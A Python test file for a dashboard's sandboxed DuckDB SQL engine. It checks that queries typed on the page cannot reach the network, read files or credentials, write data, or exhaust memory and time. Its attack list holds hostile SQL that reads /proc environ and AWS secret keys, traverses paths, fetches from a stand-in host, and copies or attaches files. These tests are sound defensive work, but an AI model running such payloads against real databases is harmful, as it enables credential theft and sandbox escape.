"""What SQL on the page could try: reach out, read on, write, take all memory, stay on."""

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path

import psutil
import pytest

from dashboard.sql import duckdb_engine
from dashboard.sql.duckdb_engine import AT_ONCE, MOST_MEMORY_MB, DuckDB
from dashboard.sql.engine import Query, QueryRefused
from petrostream.errors import PetroStreamError, ServiceUnavailable
from petrostream.schema.keys import SCORED
from petrostream.settings import PROJECT_ROOT

DAYS = (date(2010, 1, 1), date(2030, 1, 1))
SECRET = "open-sesame"
ENDLESS = "SELECT sum(a.range * b.range) FROM range(100000000) a, range(100000000) b"
HUNGRY = "SELECT list(range) FROM range(10000000000)"
OUTSIDE = "outside the two prefixes"


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A server that must hear nothing."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server
        server.settimeout(0)
        with pytest.raises(BlockingIOError):
            server.accept()


@pytest.fixture
def engine(provisioned, monkeypatch: pytest.MonkeyPatch) -> DuckDB:
    """Over a bucket with an object beside the two prefixes, and credentials to steal."""
    provisioned.curated.put("profiles/secret.json", f'{{"a": "{OUTSIDE}"}}'.encode(), "text/plain")
    provisioned.curated.put(f"{SCORED}well=a/date=2017-02-01/b.parquet", b"none", "text/plain")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("AWS_SESSION_TOKEN", SECRET)
    return DuckDB(provisioned.curated)


def ask(engine: DuckDB, text: str) -> str:
    return engine.run(Query(text, *DAYS)).rows.to_string()


ATTACKS = [
    "SELECT * FROM read_blob('s3://{bucket}/x?s3_endpoint={host}&s3_use_ssl=false')",
    "SELECT * FROM read_parquet('s3://b/x?s3_endpoint={host}&s3_use_ssl=0&s3_url_style=path')",
    "SELECT * FROM read_parquet('s3://{bucket}/scored/x.parquet?s3_endpoint={host}'), scored",
    "SELECT * FROM read_text('http://{host}/x')",
    "SELECT * FROM read_csv('https://{host}/x')",
    "SELECT * FROM 'http://{host}/x.parquet'",
    "SELECT * FROM read_text('s3://{bucket}/profiles/secret.json')",
    "SELECT * FROM read_text('s3://{bucket}/scored/../profiles/secret.json')",
    "SELECT * FROM read_text('curated://scored/../profiles/secret.json')",
    "SELECT * FROM read_text('curated://profiles/secret.json')",
    "SELECT * FROM read_text('curated://*/*')",
    "SELECT * FROM read_text('curated://scored/../../{folder}/private.txt')",
    "SELECT * FROM read_text('{folder}/private.txt')",
    "SELECT * FROM read_csv('file://{folder}/private.txt')",
    "SELECT * FROM read_blob('/proc/self/environ')",
    "SELECT * FROM read_text('/proc/{parent}/environ')",
    "SELECT * FROM glob('{folder}/*')",
    "SELECT * FROM '{folder}/private.txt'",
    "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM which_secret('s3://{bucket}/x', 's3')",
    "IMPORT DATABASE '{folder}'",
    "SELECT 1; IMPORT DATABASE '{folder}'",
    "EXPORT DATABASE '{folder}/export'",
    "COPY (SELECT 1) TO '{folder}/copied.csv'",
    "COPY (SELECT 1 AS a) TO 's3://{bucket}/scored/well=x/date=2017-02-01/x.parquet'",
    "COPY (SELECT 1 AS a) TO 'curated://scored/well=a/date=2017-02-01/b.parquet'",
    "EXPLAIN ANALYZE COPY (SELECT 1) TO '{folder}/copied.csv'",
    "ATTACH '{folder}/attached.db'",
    "ATTACH 'http://{host}/x.db'",
    "INSTALL httpfs FROM 'http://{host}'",
    "FORCE INSTALL spatial",
    "LOAD httpfs",
    "LOAD '{folder}/private.txt'",
    "CREATE SECRET (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '{host}')",
    "CREATE TABLE t AS SELECT 1",
    "DROP VIEW scored",
    "CREATE MACRO scored() AS 1",
    "SET enable_external_access = true",
    "SET memory_limit = '100GB'",
    "RESET lock_configuration",
    "PRAGMA enable_profiling",
    "PRAGMA log_query_path='{folder}/log'",
    "CHECKPOINT",
    "CALL pragma_version()",
    "SELECT 1; SELECT 2",
    "SELECT * FROM query('COPY (SELECT 1) TO ''{folder}/copied.csv''')",
    "SELECT * FROM sniff_csv('{folder}/private.txt')",
    "SELECT * FROM parquet_metadata('{folder}/private.txt')",
    "SELECT * FROM read_json('{folder}/private.txt')",
    "SELECT write_log('x'), * FROM duckdb_logs()",
]


def test_whatever_is_tried_nothing_is_reached_read_or_written(
    engine: DuckDB, provisioned, listener: socket.socket, tmp_path: Path
) -> None:
    host, port = listener.getsockname()
    folder = tmp_path / "attacked"
    folder.mkdir()
    (folder / "private.txt").write_text(OUTSIDE)
    (folder / "schema.sql").write_text(
        f"COPY (SELECT 1) TO '{folder}/by_import.csv'; "
        f"CREATE TABLE t AS SELECT * FROM read_text('http://{host}:{port}/import');"
    )
    (folder / "load.sql").write_text("")
    files, objects = sorted(folder.iterdir()), provisioned.objects(provisioned.curated.name)
    names = {
        "bucket": provisioned.curated.name,
        "host": f"{host}:{port}",
        "folder": folder,
        "parent": os.getpid(),
    }

    def outcome(attack: str) -> str:
        try:
            return ask(engine, attack.format_map(names))
        except PetroStreamError as error:
            return str(error)

    with ThreadPoolExecutor(AT_ONCE) as pool:
        outcomes = dict(zip(ATTACKS, pool.map(outcome, ATTACKS), strict=True))
    assert not [attack for attack, told in outcomes.items() if OUTSIDE in told or SECRET in told]
    assert sorted(folder.iterdir()) == files
    assert provisioned.objects(provisioned.curated.name) == objects


LOCKED_IN = """
import json, os, resource, socket, sys
from dashboard.sql.own_limits import limit_myself
kept, other = socket.socketpair()
limit_myself(2**28, 20)

def outcome(work):
    try:
        work()
        return "done"
    except (OSError, MemoryError, ValueError) as error:
        return type(error).__name__

found = {
    "a file": outcome(lambda: open("/etc/hostname").close()),
    "a draft": outcome(lambda: open(sys.argv[1], "w").close()),
    "a connection": outcome(lambda: socket.socket()),
    "a pipe": outcome(lambda: os.pipe()),
    "memory": outcome(lambda: bytearray(2**29)),
    "what is open": outcome(lambda: kept.sendall(b"x")),
}
print(json.dumps(found))
"""


def test_the_process_can_open_nothing_more_whatever_runs_in_it(tmp_path: Path) -> None:
    run = subprocess.run(
        [sys.executable, "-c", LOCKED_IN, str(tmp_path / "draft")],
        cwd=PROJECT_ROOT,
        capture_output=True,
        text=True,
        check=True,
    )
    assert json.loads(run.stdout) == {
        "a file": "OSError",
        "a draft": "OSError",
        "a connection": "OSError",
        "a pipe": "OSError",
        "memory": "MemoryError",
        "what is open": "done",
    }


def query_processes(of: int | None = None) -> list[psutil.Process]:
    found = []
    for process in psutil.Process(of).children(recursive=True):
        try:
            is_query = "dashboard.sql.query_process" in process.cmdline()
        except psutil.Error:
            continue
        if is_query:
            found.append(process)
    return found


class Leave(BaseException):
    """As Streamlit ends a script whose visitor has left."""


def test_the_process_knows_no_secret_and_ends_with_the_visit(engine: DuckDB) -> None:
    seen: list[psutil.Process] = []

    def tick() -> None:
        seen.extend(query_processes())
        known = f"{seen[0].environ()} {seen[0].cmdline()}"
        assert SECRET not in known and "AWS_" not in known and "PETROSTREAM_" not in known
        raise Leave

    with pytest.raises(Leave):
        engine.run(Query(ENDLESS, *DAYS), tick)
    assert len(seen) == 1 and not query_processes()


def test_time_is_bounded(engine: DuckDB, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(duckdb_engine, "MOST_SECONDS", 3)
    with pytest.raises(QueryRefused, match="took longer than 3 s"):
        ask(engine, ENDLESS)
    assert not query_processes()


def test_cpu_time_is_bounded(engine: DuckDB, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(duckdb_engine, "MOST_CPU_SECONDS", 1)
    with pytest.raises(QueryRefused, match="more than 1 s of CPU time"):
        ask(engine, ENDLESS)


def test_memory_is_bounded_for_all_queries_together(
    engine: DuckDB, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(duckdb_engine, "MOST_SECONDS", 250)
    most, is_over = [0], threading.Event()

    def watch() -> None:
        while not is_over.wait(0.02):
            sizes = []
            for process in query_processes():
                try:
                    sizes.append(process.memory_info().rss)
                except psutil.Error:
                    continue
            most[0] = max(most[0], sum(sizes))

    watcher = threading.Thread(target=watch)
    watcher.start()

    def told(_: int) -> str:
        with pytest.raises(QueryRefused) as refused:
            ask(engine, HUNGRY)
        return str(refused.value)

    try:
        with ThreadPoolExecutor(3) as pool:
            refusals = list(pool.map(told, range(3)))
    finally:
        is_over.set()
        watcher.join()
    assert all("MB of memory" in refusal for refusal in refusals)
    assert 2**28 < most[0] < AT_ONCE * (MOST_MEMORY_MB + 256) * 2**20


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("SELECT repeat('x', 3000000000)", "MB of memory"),
        ("SELECT repeat('x', 20000) FROM range(200000)", "MB"),
        (f"SELECT {', '.join(['1'] * 1001)}", "1001 columns"),
        (f"SELECT '{'x' * 100_000}'", "100,000 characters"),
    ],
    ids=["one value", "many values", "columns", "text"],
)
def test_an_answer_is_bounded(engine: DuckDB, text: str, told: str) -> None:
    with pytest.raises(QueryRefused, match=told):
        ask(engine, text)


def test_a_process_that_dies_is_a_sentence(engine: DuckDB) -> None:
    ticks = []

    def tick() -> None:
        ticks.append(query_processes()[0])
        if len(ticks) == 6:
            ticks[0].send_signal(signal.SIGSEGV)

    with pytest.raises(QueryRefused, match="ended on this query"):
        engine.run(Query(ENDLESS, *DAYS), tick)


@pytest.mark.parametrize(
    ("program", "told"), [("/bin/false", "did not start"), ("/nonexistent", "can't be started")]
)
def test_a_process_that_does_not_start_is_a_sentence(
    engine: DuckDB, monkeypatch: pytest.MonkeyPatch, program: str, told: str
) -> None:
    monkeypatch.setattr(sys, "executable", program)
    with pytest.raises(ServiceUnavailable, match=told):
        ask(engine, "SELECT 1")


def test_no_more_than_two_run_at_once(engine: DuckDB, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(duckdb_engine, "MOST_SECONDS", 0)
    for _ in range(AT_ONCE):
        assert duckdb_engine._running.acquire(timeout=5)
    try:
        with pytest.raises(QueryRefused, match="other visitors"):
            ask(engine, "SELECT 1")
    finally:
        for _ in range(AT_ONCE):
            duckdb_engine._running.release()


DASHBOARD = f"""
from datetime import date
from dashboard.sql.duckdb_engine import DuckDB
from dashboard.sql.engine import Query
from petrostream.aws.buckets import Bucket
print("asking", flush=True)
DuckDB(Bucket("none")).run(Query({ENDLESS!r}, date(2017, 1, 1), date(2017, 1, 2)))
"""


def test_no_process_outlives_a_dashboard_that_is_killed() -> None:
    with subprocess.Popen(
        [sys.executable, "-c", DASHBOARD], cwd=PROJECT_ROOT, stdout=subprocess.PIPE
    ) as dashboard:
        assert dashboard.stdout is not None
        assert dashboard.stdout.readline() == b"asking\n"
        until = time.monotonic() + 60
        while not (started := query_processes(dashboard.pid)):
            assert time.monotonic() < until and dashboard.poll() is None
        [query] = started
        dashboard.kill()
        query.wait(timeout=30)
